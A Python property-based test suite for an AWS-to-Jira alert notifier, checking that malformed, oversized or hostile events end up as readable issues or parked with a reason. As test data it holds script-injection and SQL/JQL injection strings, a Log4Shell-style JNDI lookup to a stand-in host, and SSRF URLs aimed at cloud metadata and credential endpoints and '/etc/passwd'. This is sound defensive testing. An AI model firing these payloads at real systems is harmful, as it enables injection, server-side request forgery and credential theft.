"""Hostile input through the real handlers: whatever arrives ends as a readable issue or parked with a reason.

Property-based: envelopes (SNS, EventBridge, alarm action, SQS) and every message format are generated, or the
samples in events/ are mutated (keys deleted, values replaced by wrong types, huge, nested, control and
non-UTF-8-escaped text), and delivered to the handler Lambda would call, against moto and the stand-in Jira.
The dead-letter queue enforces what SQS accepts (its character set and size), as the real service does.
"""

from __future__ import annotations

import copy
import json
import re
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import responses
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from functions.alarm_action_to_jira.handler import lambda_handler as alarm_action_handler
from functions.eventbridge_to_jira.handler import lambda_handler as eventbridge_handler
from functions.sns_to_jira.handler import lambda_handler as sns_handler
from functions.sqs_to_jira.handler import lambda_handler as sqs_handler
from jira_notifier.core.config import check_jira_url
from jira_notifier.core.errors import JiraNotifierError, SecretError
from jira_notifier.entry import wiring
from tests.conftest import DEFAULT_PROVIDER, EVENTS, load_event
from tests.support.builders import TOPIC_ARN, alerts_in, sns_event
from tests.support.clocks import on_clock
from tests.support.jira_spec import ADF_NODE_TYPES, validate_calls

HANDLERS: dict[str, Callable[[Any, Any], Any]] = {
    "sns": sns_handler,
    "eventbridge": eventbridge_handler,
    "alarm-action": alarm_action_handler,
    "sqs": sqs_handler,
}
OUTCOMES = {"created", "commented", "resolved", "reopened", "skipped", "coalesced", "ignored", "parked", "recovered"}
REASONS = {"config", "bad-secret", "malformed-event", "unroutable", "jira-rejected", "jira-auth"}
QUEUE_ARN = "arn:aws:sqs:us-east-1:123456789012:jira-notifier-buffer"
ALARM_ARN = "arn:aws:cloudwatch:eu-west-1:123456789012:alarm:api-5xx-high"
HOSTILE = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)

# What SQS accepts in a message body (anything else is refused with InvalidMessageContents), and its size limit.
SQS_REFUSED_CHARACTER = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
SQS_MAX_BYTES = 1_048_576


# The harness -----------------------------------------------------------------------------------------------


@dataclass
class Delivered:
    function: str
    result: Any
    issues: list[Any]  # issues this delivery created
    parked: list[dict[str, Any]]  # dead-letter records it wrote
    handed_back: dict[str, str]  # SQS messageId -> why the record goes back to the queue


@dataclass
class Deliver:
    """Calls a handler as Lambda would and reports what the delivery left behind."""

    aws: Any
    jira: Any
    context: Any
    now: float = 1_800_000_000.0
    handed_back: dict[str, str] = field(default_factory=dict)

    def clock(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.now += seconds

    def __call__(self, function: str, event: Any) -> Delivered:
        # Deliveries minutes apart on a simulated clock: no flap coalescing between examples, and a lease an
        # example leaves behind has expired before the next one
        self.now += 120
        self.jira.now = lambda: datetime.fromtimestamp(self.now, UTC)  # Jira's clock and the functions' agree
        notifier = wiring.get_notifier(function)
        on_clock(notifier, self.clock, self.sleep)
        issues_before, calls_before = set(self.jira.issues), len(self.jira.mock.calls)
        self.handed_back.clear()
        try:
            result = HANDLERS[function](event, self.context)
        except JiraNotifierError as error:
            raise AssertionError(
                f"a healthy Jira and AWS, yet the event was neither handled nor parked ({error.reason}): {error}"
            ) from error
        validate_calls(self.jira.mock.calls[calls_before:])
        issues = [issue for key, issue in self.jira.issues.items() if key not in issues_before]
        return Delivered(function, result, issues, self.drain_dead_letters(), dict(self.handed_back))

    def watch_batches(self, process_batch: Callable[..., Any]) -> Callable[..., Any]:
        """``Batch.process`` noting why records are handed back (the handler's answer only lists their ids)."""

        def watched(*args: Any, **kwargs: Any) -> Any:
            result = process_batch(*args, **kwargs)
            self.handed_back.update({key: f"{error.reason}: {error}" for key, error in result.failed.items()})
            return result

        return watched

    def drain_dead_letters(self) -> list[dict[str, Any]]:
        sqs = self.aws.session.client("sqs")
        records = []
        while True:
            messages = sqs.receive_message(
                QueueUrl=self.aws.dead_letter_queue_url, MaxNumberOfMessages=10, MessageAttributeNames=["All"]
            ).get("Messages", [])
            if not messages:
                return records
            for message in messages:
                records.append(json.loads(message["Body"]))
                sqs.delete_message(QueueUrl=self.aws.dead_letter_queue_url, ReceiptHandle=message["ReceiptHandle"])


def _strict_sqs_send(original: Callable[..., Any]) -> Callable[..., Any]:
    from moto.sqs.exceptions import InvalidParameterValue

    def send_message(self: Any, queue_name: str, message_body: str, *args: Any, **kwargs: Any) -> Any:
        refused = SQS_REFUSED_CHARACTER.search(message_body)
        if refused:
            raise InvalidParameterValue(f"Invalid characters found (U+{ord(refused.group()):04X}); SQS refuses it")
        if len(message_body.encode("utf-8")) > SQS_MAX_BYTES:
            raise InvalidParameterValue(f"Message must be shorter than {SQS_MAX_BYTES} bytes")
        return original(self, queue_name, message_body, *args, **kwargs)

    return send_message


@pytest.fixture
def deliver(aws: Any, jira: Any, lambda_context: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[Deliver]:
    """The handlers against moto and the stand-in Jira, with a dead-letter queue as strict as SQS."""
    from moto.sqs.models import SQSBackend

    from jira_notifier.app import batch

    aws.put_provider(**{**DEFAULT_PROVIDER, "group": "platform-oncall"})  # the group some samples name
    harness = Deliver(aws, jira, lambda_context)
    with monkeypatch.context() as patch:
        patch.setattr(SQSBackend, "send_message", _strict_sqs_send(SQSBackend.send_message))
        patch.setattr(batch.Batch, "process", harness.watch_batches(batch.Batch.process))
        yield harness


def assert_ended_well(delivered: Delivered) -> None:
    """Every alert became a readable issue, a lifecycle step on one, or a dead-letter record with a reason."""
    result = delivered.result
    if delivered.function == "sqs":
        assert result == {"batchItemFailures": []}, f"handed back although nothing was down: {delivered.handed_back}"
    else:
        assert isinstance(result, dict) and result, f"no outcome at all: {result!r}"
        assert set(result) <= OUTCOMES and all(isinstance(n, int) and n > 0 for n in result.values()), result
        assert result.get("created", 0) == len(delivered.issues), (result, len(delivered.issues))
        assert result.get("parked", 0) == len(delivered.parked), (result, delivered.parked)
    for record in delivered.parked:
        assert record["format"] == "jira-notifier/parked@1"
        assert record["reason"] in REASONS and record["error"], record
        assert "event" in record or record["eventTruncated"]
    for issue in delivered.issues:
        assert_readable(issue)


def assert_readable(issue: Any) -> None:
    summary = issue.fields["summary"]
    assert summary.strip() and "\n" not in summary and len(summary) <= 255, summary
    assert any(label.startswith("jn-") for label in issue.fields["labels"])
    words = "".join(node.get("text", "") for node in _nodes(issue.fields["description"]))
    assert words.strip(), "an issue without a readable description"


def _nodes(node: Any) -> Iterator[dict[str, Any]]:
    if isinstance(node, dict):
        yield node
        for child in node.get("content") or []:
            yield from _nodes(child)


# Strategies ------------------------------------------------------------------------------------------------

# Text that looks like markup or a query language: it must reach Jira as literal text.
MARKUP = [
    '{"type":"doc","version":1,"content":[{"type":"mention","attrs":{"id":"557058:admin","text":"@admin"}}]}',
    '{"type":"inlineCard","attrs":{"url":"https://evil.example/x"}}',
    "h1. Heading",
    "*bold* _italic_ -strike- +under+",
    "{code:java}System.exit(0);{code}",
    "{noformat}raw{noformat}",
    "{panel:title=Injected|bgColor=#ff0000}x{panel}",
    "[click me|javascript:alert(1)]",
    "[~accountid:5b10a2844c20165700ede21g]",
    "!https://evil.example/pixel.png!",
    "|| head || head ||\n| cell | cell |",
    "----",
    '" OR project = SECRET OR labels = "x',
    "project = OPS ORDER BY created DESC",
    "'; DROP TABLE issues; --",
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "[md link](javascript:alert(1))",
    "**markdown** `code`",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {title} %s %n",
    "@here #OPS-1 :smile:",
]
# Any text a JSON document can carry as valid Unicode (the invalid kinds are HAZARD_TEXT, tested on their own).
SCALAR_TEXT = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\ufffe\uffff"), max_size=30)
TEXT = st.one_of(SCALAR_TEXT, st.sampled_from(MARKUP), st.sampled_from(["", " ", "\n", "null", "{", "[", '"']))
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXT,  # Python's JSON reads NaN and Infinity too
    lambda children: st.lists(children, max_size=4) | st.dictionaries(TEXT, children, max_size=4),
    max_leaves=12,
)
# Characters Python reads from JSON escapes but UTF-8, DynamoDB and SQS do not take.
UNICODE_HAZARDS = [
    "\ud800",
    "\udfff",
    "\udc80",
    "\ufffe",
    "\uffff",
    "\x00",
    "\x1b[31m",
    "\u202e",
    "\u2028",
    "\U0001f525",
    "e\u0301",
]
HAZARD_TEXT = st.lists(st.sampled_from(UNICODE_HAZARDS) | SCALAR_TEXT, min_size=1, max_size=4).map("".join)
HUGE_TEXT = st.sampled_from(["x", "ü", "漢", "\U0001f525", '"', "\\", "\n", "\x01"]).flatmap(
    lambda ch: st.sampled_from([20_000, 250_000]).map(lambda n: ch * n)
)
KNOWN_KEYS = [
    "AlarmArn", "AlarmName", "NewStateValue", "StateChangeTime", "Trigger", "Metrics", "Dimensions", "AlarmRule",
    "anomalyId", "impact", "rootCauses", "dimensionalValue", "dedupKey", "title", "message", "status", "severity",
    "fields", "link", "notificationGroup", "detail-type", "source", "detail", "id", "time", "account", "region",
    "resources", "state", "configuration", "alarmData", "findings", "eventArn", "affectedEntities", "Records",
]  # fmt: skip
SHAPED = st.dictionaries(st.sampled_from(KNOWN_KEYS), JSON, max_size=8)
GROUP_ATTRIBUTE = st.one_of(
    st.just({}),
    st.builds(lambda v: {"notificationGroup": {"Type": "String", "Value": v}}, st.sampled_from(["ops", "nope"]) | TEXT),
    JSON,
)
MESSAGE = st.one_of(
    TEXT,
    JSON.map(json.dumps),
    SHAPED.map(json.dumps),
    st.lists(st.sampled_from(MARKUP) | SCALAR_TEXT, min_size=1, max_size=5).map("\n".join),
    st.just("Budget Name: monthly\nAlert Type: ACTUAL\nAlert Threshold: > $100.00\nActual Amount: $abc\n"),
)


def sns_records(message: st.SearchStrategy[Any]) -> st.SearchStrategy[dict[str, Any]]:
    sns = st.fixed_dictionaries(
        {"Message": message},
        optional={
            "Type": st.just("Notification") | JSON,
            "MessageId": st.uuids().map(str) | JSON,
            "TopicArn": st.just(TOPIC_ARN) | JSON,
            "Subject": JSON,
            "Timestamp": st.just("2026-11-18T09:14:27.512Z") | JSON,
            "MessageAttributes": GROUP_ATTRIBUTE,
        },
    )
    return st.fixed_dictionaries({"EventSource": st.just("aws:sns"), "Sns": sns})


SNS_EVENTS = st.builds(lambda records: {"Records": records}, st.lists(sns_records(MESSAGE), min_size=1, max_size=3))
EVENTBRIDGE_EVENTS = st.fixed_dictionaries(
    {
        "detail-type": st.sampled_from(
            [
                "CloudWatch Alarm State Change",
                "Anomaly Detected",
                "Notification",
                "AWS Health Event",
                "Security Hub Findings - Imported",
                "GuardDuty Finding",
            ]
        )
        | JSON,
        "source": st.sampled_from(
            ["aws.cloudwatch", "aws.ce", "aws.health", "aws.securityhub", "aws.guardduty", "com.example.orders"]
        )
        | JSON,
    },
    optional={
        "version": st.just("0") | JSON,
        "id": st.uuids().map(str) | JSON,
        "account": st.just("123456789012") | JSON,
        "time": st.just("2026-11-18T09:14:27Z") | JSON,
        "region": st.just("eu-west-1") | JSON,
        "resources": st.just([ALARM_ARN]) | JSON,
        "detail": SHAPED | JSON,
    },
)
ALARM_ACTION_EVENTS = st.fixed_dictionaries(
    {"alarmData": SHAPED | JSON},
    optional={
        "source": st.just("aws.cloudwatch") | JSON,
        "alarmArn": st.just(ALARM_ARN) | JSON,
        "accountId": JSON,
        "time": JSON,
        "region": JSON,
    },
)


def _sns_in_sqs(message: str, attributes: Any) -> str:
    return json.dumps(
        {
            "Type": "Notification",
            "MessageId": "3c5f0b9e-sqs",
            "TopicArn": TOPIC_ARN,
            "Message": message,
            "MessageAttributes": attributes,
        }
    )


def sqs_event(bodies: list[str], attributes: Any = None) -> dict[str, Any]:
    """Only the body and message attributes come from the sender; SQS itself writes the rest."""
    return {
        "Records": [
            {
                "messageId": f"msg-{index}",
                "receiptHandle": f"handle-{index}",
                "body": body,
                "attributes": {"ApproximateReceiveCount": "1", "SentTimestamp": "1763457267512"},
                "messageAttributes": attributes if attributes is not None else {},
                "md5OfBody": "0" * 32,
                "eventSource": "aws:sqs",
                "eventSourceARN": QUEUE_ARN,
                "awsRegion": "us-east-1",
            }
            for index, body in enumerate(bodies)
        ]
    }


SQS_BODY = MESSAGE | st.builds(_sns_in_sqs, MESSAGE, GROUP_ATTRIBUTE)
SQS_EVENTS = st.builds(
    sqs_event,
    st.lists(SQS_BODY, min_size=1, max_size=4),
    st.just({}) | st.just({"notificationGroup": {"stringValue": "nope", "dataType": "String"}}) | JSON,
)


# Mutating the samples: every known format, broken one field at a time.

SAMPLES = {path.name: load_event(path.name) for path in sorted(Path(EVENTS).glob("*.json")) if path.name != "env.json"}
_DELETE = object()


@dataclass
class _Encoded:
    """A JSON document carried as text (an SNS Message, an SQS body): mutated as structure, sent as text."""

    value: Any


def _open(value: Any) -> Any:
    if isinstance(value, str) and value.lstrip()[:1] in ("{", "["):
        try:
            return _Encoded(_open(json.loads(value)))
        except ValueError:
            return value
    if isinstance(value, dict):
        return {key: _open(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_open(item) for item in value]
    return value


def _close(value: Any) -> Any:
    if isinstance(value, _Encoded):  # escaped, as a sender's JSON text would be (\ud800 and all)
        return json.dumps(_close(value.value))
    if isinstance(value, dict):
        return {key: _close(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_close(item) for item in value]
    return value


def _paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if path:
        yield path
    inner = value.value if isinstance(value, _Encoded) else value
    children = inner.items() if isinstance(inner, dict) else enumerate(inner) if isinstance(inner, list) else ()
    for key, child in children:
        yield from _paths(child, (*path, key))


def _replace(value: Any, path: tuple[Any, ...], new: Any) -> Any:
    if isinstance(value, _Encoded):
        return _Encoded(_replace(value.value, path, new))
    key, rest = path[0], path[1:]
    changed = copy.copy(value)
    if not rest and new is _DELETE:
        del changed[key]
    else:
        changed[key] = new if not rest else _replace(value[key], rest, new)
    return changed


def _sender_controlled(sample: str, path: tuple[Any, ...]) -> bool:
    # SQS writes the record's envelope itself; only the body and message attributes come from the sender.
    return not sample.startswith("sqs_") or (len(path) > 2 and path[2] in ("body", "messageAttributes"))


MUTATION = st.one_of(st.just(_DELETE), st.just(None), JSON, HUGE_TEXT, st.just(""), st.sampled_from(MARKUP))


def function_of(sample: str) -> str:
    prefix = sample.split("_", 1)[0]
    return {"sns": "sns", "eventbridge": "eventbridge", "alarm": "alarm-action", "sqs": "sqs"}[prefix]


@st.composite
def mutated_samples(draw: Any, mutation: st.SearchStrategy[Any] = MUTATION) -> tuple[str, Any]:
    sample = draw(st.sampled_from(sorted(SAMPLES)))
    event = _open(copy.deepcopy(SAMPLES[sample]))
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        paths = [path for path in _paths(event) if _sender_controlled(sample, path)]
        if paths:
            event = _replace(event, draw(st.sampled_from(paths)), draw(mutation))
    return function_of(sample), _close(event)


# Properties ------------------------------------------------------------------------------------------------


DIRECT_EVENTS = st.one_of(
    SNS_EVENTS.map(lambda event: ("sns", event)),
    EVENTBRIDGE_EVENTS.map(lambda event: ("eventbridge", event)),
    ALARM_ACTION_EVENTS.map(lambda event: ("alarm-action", event)),
)


@settings(HOSTILE, max_examples=30)
@given(delivery=DIRECT_EVENTS)
def test_any_sns_eventbridge_or_alarm_action_event_ends_as_an_issue_or_parked(
    deliver: Deliver, delivery: tuple[str, Any]
) -> None:
    function, event = delivery
    assert_ended_well(deliver(function, event))


@settings(HOSTILE, max_examples=10)
@given(event=SQS_EVENTS)
def test_any_sqs_batch_is_handled_without_handing_records_back(deliver: Deliver, event: dict[str, Any]) -> None:
    delivered = deliver("sqs", event)
    assert_ended_well(delivered)
    assert len(delivered.issues) + len(delivered.parked) <= len(event["Records"])


@settings(HOSTILE, max_examples=30)
@given(mutated=mutated_samples())
def test_every_sample_format_survives_mutation(deliver: Deliver, mutated: tuple[str, Any]) -> None:
    function, event = mutated
    assert_ended_well(deliver(function, event))


@settings(HOSTILE, max_examples=10)
@given(mutated=mutated_samples(HAZARD_TEXT))
@example(mutated=("sns", sns_event('{"dedupKey": "disk-\\ud800", "title": "Disk full"}')))
@example(mutated=("sns", sns_event('{"dedupKey": "k-1", "title": "Disk \\udfff full", "message": "x"}')))
@example(mutated=("sns", sns_event('{"dedupKey": "k-2", "title": "Disk \\uffff full", "notificationGroup": "nope"}')))
@example(mutated=("sqs", sqs_event(['{"dedupKey": "k-3\\udc80", "title": "t"}'])))
def test_text_that_is_not_valid_unicode_still_ends_as_an_issue_or_parked(
    deliver: Deliver, mutated: tuple[str, Any]
) -> None:
    # JSON may escape lone surrogates (\ud800) and non-characters (\uffff): Python reads them, UTF-8, DynamoDB
    # and SQS do not take them
    function, event = mutated
    assert_ended_well(deliver(function, event))


# Huge, deep, empty and wrong-typed events ------------------------------------------------------------------
# (Named cases checked in one test each: the embedded AWS costs a second to set up per test.)


def assert_every_case(cases: dict[str, Any], check: Callable[[Any], None]) -> None:
    """Run ``check`` on every case, then fail naming each failing case and what went wrong."""
    problems = {}
    for name, case in cases.items():
        try:
            check(case)
        except Exception as error:  # collected, reported by case below
            problems[name] = f"{type(error).__name__}: {error}"[:300]
    assert not problems, f"{len(problems)} of {len(cases)} cases failed:\n" + "\n".join(
        f"- {name}: {problem}" for name, problem in problems.items()
    )


ODD_EVENTS = {
    "null": None,
    "empty-object": {},
    "empty-list": [],
    "list": [1, "two", None],
    "string": "disk full on build-agent-07",
    "number": 42,
    "records-null": {"Records": None},
    "records-empty": {"Records": []},
    "records-of-null": {"Records": [None]},
    "records-of-strings": {"Records": ["x", "y"]},
    "sns-null": {"Records": [{"EventSource": "aws:sns", "Sns": None}]},
    "sns-empty-message": {"Records": [{"EventSource": "aws:sns", "Sns": {"Message": ""}}]},
    "sns-message-object": {"Records": [{"EventSource": "aws:sns", "Sns": {"Message": {"dedupKey": "k"}}}]},
    "sns-message-number": {"Records": [{"EventSource": "aws:sns", "Sns": {"Message": 12}}]},
    "eventbridge-detail-list": {"detail-type": "Notification", "source": "x", "detail": []},
    "alarm-data-list": {"alarmData": [1, 2]},
}
NOT_AN_OBJECT = ("null", "empty-list", "list", "string", "number")


def test_any_json_value_given_to_a_direct_handler_ends_well(deliver: Deliver) -> None:
    cases = {f"sns/{name}": ("sns", event) for name, event in ODD_EVENTS.items()}
    cases |= {
        f"{function}/{name}": (function, ODD_EVENTS[name])
        for function in ("eventbridge", "alarm-action")
        for name in NOT_AN_OBJECT
    }

    assert_every_case(cases, lambda case: assert_ended_well(deliver(*case)))


def _nested(depth: int, leaf: str = "1") -> str:
    return "[" * depth + leaf + "]" * depth


HUGE_OR_DEEP = {
    "huge-plain-text": sns_event("disk full\n" + "x" * 1_000_000),
    "huge-json-array": sns_event(json.dumps({"dedupKey": "huge-array", "title": "t", "rows": list(range(50_000))})),
    "huge-non-ascii": sns_event(json.dumps({"dedupKey": "huge-cjk", "message": "漢" * 100_000}, ensure_ascii=False)),
    "huge-parked": sns_event(
        json.dumps({"dedupKey": "huge-parked", "title": "t", "notificationGroup": "nope", "x": ['"\\'] * 60_000})
    ),
    "huge-parked-non-ascii": sns_event(
        json.dumps({"dedupKey": "p2", "notificationGroup": "nope", "x": "\U0001f525" * 250_000}, ensure_ascii=False)
    ),
    "deep-array-text": sns_event(_nested(100_000)),
    "deep-array-990": sns_event(_nested(990)),
    "deep-object-990": sns_event('{"a":' * 990 + "1" + "}" * 990),
    "deep-parked": sns_event(
        json.dumps({"dedupKey": "deep", "notificationGroup": "nope", "x": json.loads(_nested(900))})
    ),
    "huge-message-id": sns_event(json.dumps({"dedupKey": "long-id", "title": "t"}), message_id="m" * 450_000),
    "huge-dedup-key": sns_event(json.dumps({"dedupKey": "k" * 500_000, "title": "a key as long as a stack trace"})),
    "many-records": {
        "Records": [{"EventSource": "aws:sns", "Sns": {"Message": f"m{n}", "MessageId": f"id-{n}"}} for n in range(10)]
    },
    "many-fields": sns_event(
        json.dumps({"dedupKey": "fields", "title": "t", "fields": {f"f{n}": "v" * 2_000 for n in range(500)}})
    ),
}


def test_huge_and_deep_events_end_well(deliver: Deliver) -> None:
    assert_every_case(HUGE_OR_DEEP, lambda event: assert_ended_well(deliver("sns", event)))


# Text that looks like markup stays text --------------------------------------------------------------------

PRINTABLE = st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), min_size=1, max_size=12)
MARKUP_LINE = st.lists(st.sampled_from(MARKUP) | PRINTABLE, min_size=1, max_size=2).map(" ".join)


def _text_nodes(document: Any) -> list[str]:
    return [node["text"] for node in _nodes(document) if node.get("type") == "text"]


@settings(HOSTILE, max_examples=12)
@given(
    title=MARKUP_LINE,
    lines=st.lists(MARKUP_LINE, min_size=1, max_size=4),
    name=st.sampled_from(MARKUP) | PRINTABLE,
    value=MARKUP_LINE,
)
@example(title=MARKUP[0], lines=[MARKUP[1], MARKUP[4]], name="[~accountid:x]", value="<script>x</script>")
def test_text_that_looks_like_adf_markup_or_jql_reaches_jira_as_plain_text(
    deliver: Deliver, title: str, lines: list[str], name: str, value: str
) -> None:
    message = "\n".join(lines)
    payload = {
        "dedupKey": f"markup-{deliver.now}",
        "title": title,
        "message": message,
        "fields": {name: value},
        "link": "javascript:alert(document.cookie)",
    }

    delivered = deliver("sns", sns_event(json.dumps(payload)))

    [issue] = delivered.issues
    assert issue.fields["summary"] == " ".join(title.split())[:255]
    description = issue.fields["description"]
    texts = set(_text_nodes(description))
    shown = (message, name, value)  # each line of each becomes one text node (newlines become hardBreaks)
    expected = {line for text in shown for line in text.strip().split("\n") if line}
    assert expected <= texts, expected - texts
    for node in _nodes(description):
        assert node["type"] in ADF_NODE_TYPES
        for mark in node.get("marks") or []:
            assert mark["type"] != "link" or mark["attrs"]["href"].startswith("https://"), mark


def test_jql_built_for_recovery_never_carries_alert_text(deliver: Deliver, jira: Any, lambda_context: Any) -> None:
    # Given an alert whose key tries to break out of a JQL string, and a create whose answer is lost
    payload = {"dedupKey": '" OR project = SECRET OR labels = "x', "title": "breakout", "status": "firing"}
    event = sns_event(json.dumps(payload))
    jira.fail("POST", r"/rest/api/3/issue$", None, after=True)

    # When the invocation looks for the issue it may have created, it searches by the label only
    delivered = deliver("sns", event)

    assert delivered.result == {"recovered": 1}
    label = alerts_in(event)[0].dedupe_label
    [search] = [json.loads(c.request.body) for c in jira.mock.calls if c.request.url.endswith("/search/jql")]
    assert search["jql"] == f'project = "OPS" AND labels = "{label}" ORDER BY created DESC'
    assert re.fullmatch(r"jn-[0-9a-f]{24}", label)


# Where Jira may be reached ---------------------------------------------------------------------------------


@pytest.fixture
def no_connections(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Every socket connection attempted (there must be none: moto and the stand-in Jira are in-process)."""
    attempts: list[Any] = []

    def refuse(self: socket.socket, address: Any) -> None:
        attempts.append(address)
        raise OSError("tests never open connections")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    return attempts


REFUSED_URLS = {
    "metadata-http": ("http://169.254.169.254/latest/meta-data/", None),
    "metadata-https-any-host": ("https://169.254.169.254", "*"),
    "metadata-ipv6": ("https://[fd00:ec2::254]", "*"),
    "metadata-ipv4-mapped": ("https://[::ffff:169.254.169.254]", "*"),
    "metadata-decimal": ("https://2852039166", "*"),
    "metadata-hex": ("https://0xa9fea9fe", "*"),
    "metadata-octal": ("https://0251.0376.0251.0376", "*"),
    "metadata-ecs": ("https://169.254.170.2/v2/credentials", "*"),
    "private-10": ("https://10.0.0.5", "*"),
    "private-172": ("https://172.16.0.1", "*"),
    "private-192": ("https://192.168.1.10", "*"),
    "loopback-not-named": ("https://127.0.0.1", "*"),
    "loopback-short": ("https://127.1", "*"),
    "loopback-ipv6": ("https://[::1]", "*"),
    "unspecified": ("https://0.0.0.0", "*"),
    "zero": ("https://0", "*"),
    "http-atlassian": ("http://example.atlassian.net", None),
    "other-host": ("https://jira.evil.example", None),
    "suffix-trick": ("https://example.atlassian.net.evil.example", None),
    "credentials-in-url": ("https://example.atlassian.net@evil.example", None),
    "file-scheme": ("file:///etc/passwd", None),
    "gopher": ("gopher://example.atlassian.net", None),
}


def test_a_server_url_jira_may_not_be_reached_at_is_refused_before_any_connection(
    deliver: Deliver, aws: Any, jira: Any, monkeypatch: pytest.MonkeyPatch, no_connections: list[Any]
) -> None:
    allow_lists: list[str] = []

    def refused(case: tuple[str, str | None]) -> None:
        url, allowed = case
        allowed = allowed or "*.atlassian.net,api.atlassian.com"
        if allow_lists[-1:] != [allowed]:  # new settings: rebuild the adapters (costly, so cases are grouped)
            monkeypatch.setenv("JIRA_ALLOWED_HOSTS", allowed)
            wiring.reset()
            allow_lists.append(allowed)
        aws.put_secret(serverUrl=url)
        wiring.get_notifier("sns").deps.secrets.forget()  # read the secret just written
        calls_before = len(jira.mock.calls)

        delivered = deliver("sns", sns_event(json.dumps({"dedupKey": f"ssrf-{url}", "title": "t"})))

        assert delivered.result == {"parked": 1}, delivered.result
        assert [record["reason"] for record in delivered.parked] == ["bad-secret"]
        assert len(jira.mock.calls) == calls_before, "a request was sent"

    by_allow_list = dict(sorted(REFUSED_URLS.items(), key=lambda item: item[1][1] or ""))
    assert_every_case(by_allow_list, refused)
    assert no_connections == []


REDIRECTS = {
    "read-302": ("GET", r"/issue/createmeta/", 302),
    "create-307": ("POST", r"/rest/api/3/issue$", 307),
    "create-308": ("POST", r"/rest/api/3/issue$", 308),
}


def test_a_redirect_from_jira_is_never_followed(deliver: Deliver, jira: Any, no_connections: list[Any]) -> None:
    metadata_hits: list[Any] = []
    for method in (responses.GET, responses.POST):
        jira.mock.add_callback(
            method,
            re.compile(r"https?://169\.254\.169\.254/.*"),
            callback=lambda request: metadata_hits.append(request) or (200, {}, "{}"),
        )
    location = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"

    def not_followed(case: tuple[str, str, int]) -> None:
        method, path, status = case
        jira.fail(method, path, status, headers={"Location": location})

        delivered = deliver("sns", sns_event(json.dumps({"dedupKey": f"redirect-{status}", "title": "t"})))

        assert delivered.result == {"parked": 1} and delivered.parked[0]["reason"] == "jira-rejected"
        assert "redirect" in delivered.parked[0]["error"]

    assert_every_case(REDIRECTS, not_followed)
    assert metadata_hits == [] and no_connections == [] and jira.issues == {}


IP_HOSTS = st.one_of(
    st.ip_addresses(v=4).map(str),
    st.ip_addresses(v=6).map(lambda ip: f"[{ip}]"),
    st.ip_addresses(v=4).map(lambda ip: str(int(ip))),  # 2852039166: what inet_aton reads as 169.254.169.254
    st.ip_addresses(v=4).map(lambda ip: hex(int(ip))),
    st.ip_addresses(v=4).map(lambda ip: ".".join(f"0{int(part):o}" for part in str(ip).split("."))),  # octal
)


@settings(max_examples=200, deadline=None)
@given(host=IP_HOSTS, scheme=st.sampled_from(["https", "http"]), path=st.sampled_from(["", "/", "/jira"]))
def test_no_ip_address_is_ever_accepted_whatever_the_allow_list(host: str, scheme: str, path: str) -> None:
    with pytest.raises(SecretError):
        check_jira_url(f"{scheme}://{host}{path}", ["*", "*.atlassian.net"])
